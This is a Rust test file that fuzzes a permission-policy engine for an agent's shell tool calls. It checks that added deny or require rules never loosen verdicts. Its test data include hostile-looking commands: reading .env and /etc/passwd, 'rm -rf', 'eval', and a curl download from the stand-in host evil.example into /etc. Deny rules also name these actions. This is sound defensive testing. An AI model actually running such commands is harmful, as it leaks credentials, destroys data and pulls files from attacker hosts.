//! What holds of every policy, over commands that are really read.

use std::collections::BTreeSet;

use serde_json::{Map, Value, json};

use super::{Conditions, Policy, around, whole};
use crate::contracts::call::Actor;
use crate::contracts::verdict::Decision;
use crate::policy::engine::strictness;
use crate::policy::{Explanation, Ruling};
use crate::reading::disk::NoDisk;
use crate::reading::tools;

/// Rules of which policies are made.
const RULES: [&str; 26] = [
    r#"{"effect":"allow","tool":"*"}"#,
    r#"{"effect":"allow","tool":"Bash"}"#,
    r#"{"effect":"allow","when":{"command":["@reads","@files"]}}"#,
    r#"{"effect":"allow","when":{"command":["git *","ls *"]}}"#,
    r#"{"effect":"allow","when":{"command":["*"]}}"#,
    r#"{"effect":"allow","when":{"command":["cat src/*","rm -rf build"]}}"#,
    r#"{"effect":"allow","when":{"read":["${repo}/**","!secrets/**"]}}"#,
    r#"{"effect":"allow","when":{"write":["${repo}/**"]}}"#,
    r#"{"effect":"allow","when":{"path":["/etc/**","${tmp}/**"]}}"#,
    r#"{"effect":"allow","when":{"host":["example.com","@registries"]}}"#,
    r#"{"effect":"allow","when":{"code":["repo","inline","unknown"]}}"#,
    r#"{"effect":"allow","when":{"command":["rm *"],"write":["build/**"]}}"#,
    r#"{"effect":"require","when":{"command":["git push *"]},"approvalsRequired":2}"#,
    r#"{"effect":"require","when":{"command":["rm *"]},"sessionGrant":true}"#,
    r#"{"effect":"require","tool":"Bash","approvalsRequired":3}"#,
    r#"{"effect":"require","when":{"write":["src/**"]},"sessionGrant":true}"#,
    r#"{"effect":"require","when":{"host":["!example.com"]}}"#,
    r#"{"effect":"require","when":{"code":["inline"]}}"#,
    r#"{"effect":"deny","when":{"read":[".env",".env.*"]}}"#,
    r#"{"effect":"deny","when":{"command":["rm -rf *","git ** --force **"]}}"#,
    r#"{"effect":"deny","when":{"command":["env *","echo *"]}}"#,
    r#"{"effect":"deny","when":{"write":["!${repo}/**"]}}"#,
    r#"{"effect":"deny","when":{"command":["cp *"],"path":["/etc/**"]}}"#,
    r#"{"effect":"deny","when":{"host":["evil.example"]}}"#,
    r#"{"effect":"deny","when":{"code":["fetched"]}}"#,
    r#"{"effect":"deny","tool":"mcp__*"}"#,
];

/// Complete commands.
const COMMANDS: [&str; 24] = [
    "ls -la",
    "cat src/a.rs",
    "cat .env",
    "cat \"$X\"",
    "git status",
    "git push origin main",
    "git -C . push --force",
    "rm -rf build",
    "rm a b",
    "echo hi",
    "env A=b ls",
    "python3 -c 'print(1)'",
    "curl https://example.com/x",
    "curl -o /etc/x https://evil.example/x",
    "cp /etc/passwd src/p",
    "echo x > src/y",
    "cd src && ls",
    "$X a",
    "eval \"$Y\"",
    "xargs rm < list",
    "sh -c 'rm -rf src'",
    "for f in a b; do cat $f; done",
    "tool --flag",
    "true",
];

/// A generator of numbers (xorshift).
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % u64::try_from(end).unwrap()).unwrap()
    }

    fn of<'a>(&mut self, all: &[&'a str]) -> &'a str {
        all[self.below(all.len())]
    }
}

fn policy(rules: &[&str], settings: &Value) -> Policy {
    let rules: Vec<Value> = rules
        .iter()
        .enumerate()
        .map(|(at, rule)| {
            let mut rule: Value = serde_json::from_str(rule).unwrap();
            rule["id"] = json!(at.to_string());
            rule
        })
        .collect();
    let mut text = settings.clone();
    text["rules"] = json!(rules);
    whole(&text)
}

fn asked(policy: &Policy, command: &str) -> (Ruling, Explanation) {
    let args: Map<String, Value> = Map::from_iter([("command".to_owned(), json!(command))]);
    let (around, secrets) = (around(), BTreeSet::new());
    let reading = tools::read("Bash", &args, &around, &NoDisk, &policy.declared());
    let at = Conditions {
        tool: "Bash",
        args: &args,
        actor: Actor::ClaudeProcess,
        around: &around,
        directory: Some("/r"),
        branch: None,
        confined: true,
        today: None,
        secrets: &secrets,
        memory: None,
        disk: &NoDisk,
    };
    (policy.judge(&reading, &at), policy.explain(&reading, &at))
}

fn some_rules<'a>(numbers: &mut Numbers) -> Vec<&'a str> {
    let count = 1 + numbers.below(6);
    (0..count).map(|_| numbers.of(&RULES)).collect()
}

fn some_settings(numbers: &mut Numbers) -> Value {
    let all = [
        json!({}),
        json!({"otherwise": "require"}),
        json!({"otherwise": "require", "danger": {"*": "require"}}),
        json!({"unread": "deny"}),
        json!({"danger": {"delete": "deny"}}),
    ];
    all[numbers.below(all.len())].clone()
}

fn of(effect: &str) -> Vec<&'static str> {
    let mark = format!("\"effect\":\"{effect}\"");
    RULES
        .into_iter()
        .filter(|rule| rule.contains(&mark))
        .collect()
}

#[test]
fn another_deny_or_require_never_loosens_and_never_lowers_what_is_needed() {
    let mut numbers = Numbers(0x5eed_0001);
    let tightening = [of("deny"), of("require")].concat();
    for _ in 0..800 {
        let (settings, rules) = (some_settings(&mut numbers), some_rules(&mut numbers));
        let command = numbers.of(&COMMANDS);
        let added = numbers.of(&tightening);
        let (before, _) = asked(&policy(&rules, &settings), command);
        let mut more = rules.clone();
        more.insert(numbers.below(rules.len() + 1), added);
        let (after, _) = asked(&policy(&more, &settings), command);
        let text = || format!("{command:?} {rules:?} + {added}: {before:?} {after:?}");
        let (old, new) = (before.verdict.decision, after.verdict.decision);
        // What no rule speaks about may be asked about from now on.
        let first =
            added.contains("require") && old == Decision::Deny && before.verdict.rule_id.is_none();
        assert!(first || strictness(new) >= strictness(old), "{}", text());
        if (old, new) == (Decision::Require, Decision::Require) {
            assert!(after.terms.required >= before.terms.required, "{}", text());
            assert!(
                before.session_grant() || !after.session_grant(),
                "{}",
                text()
            );
        }
    }
}

#[test]
fn another_part_of_a_command_never_loosens() {
    let mut numbers = Numbers(0x5eed_0002);
    for _ in 0..1000 {
        let policy = policy(&some_rules(&mut numbers), &some_settings(&mut numbers));
        let (command, part) = (numbers.of(&COMMANDS), numbers.of(&COMMANDS));
        let joint = numbers.of(&["; ", " && ", " || ", " | ", " & ", "\n"]);
        let (before, _) = asked(&policy, command);
        let longer = format!("{command}{joint}{part}");
        let (after, _) = asked(&policy, &longer);
        assert!(
            strictness(after.verdict.decision) >= strictness(before.verdict.decision),
            "{command:?} {before:?}\n{longer:?} {after:?}\n{:?}",
            policy.rules()
        );
    }
}

/// Section 2, sentence by sentence, from what each rule says of each atom.
#[test]
fn a_call_is_as_strict_as_its_strictest_atom_and_that_as_its_strictest_rule() {
    let mut numbers = Numbers(0x5eed_0003);
    for _ in 0..800 {
        let rules = some_rules(&mut numbers);
        let otherwise = [Decision::Deny, Decision::Require][numbers.below(2)];
        let settings = match otherwise {
            Decision::Require => json!({"otherwise": "require"}),
            _ => json!({}),
        };
        let command = numbers.of(&COMMANDS);
        let policy = policy(&rules, &settings);
        let (ruling, explained) = asked(&policy, command);
        if !explained.unread.is_empty() {
            continue;
        }
        let mut strictest = Decision::Allow;
        for atom in &explained.atoms {
            let matching = atom.rules.iter().filter(|outcome| outcome.matches);
            let matching =
                matching.filter(|outcome| !atom.mentioned || outcome.effect != Decision::Allow);
            let most = matching
                .map(|outcome| outcome.effect)
                .max_by_key(|effect| strictness(*effect));
            let of_atom = match most {
                Some(effect) => effect,
                None if atom.mentioned => Decision::Allow,
                None => otherwise,
            };
            if strictness(of_atom) > strictness(strictest) {
                strictest = of_atom;
            }
        }
        // Tampering is denied whatever the rules say; none of these commands does.
        assert_eq!(
            ruling.verdict.decision, strictest,
            "{command:?} {rules:?} {explained:?}"
        );
    }
}
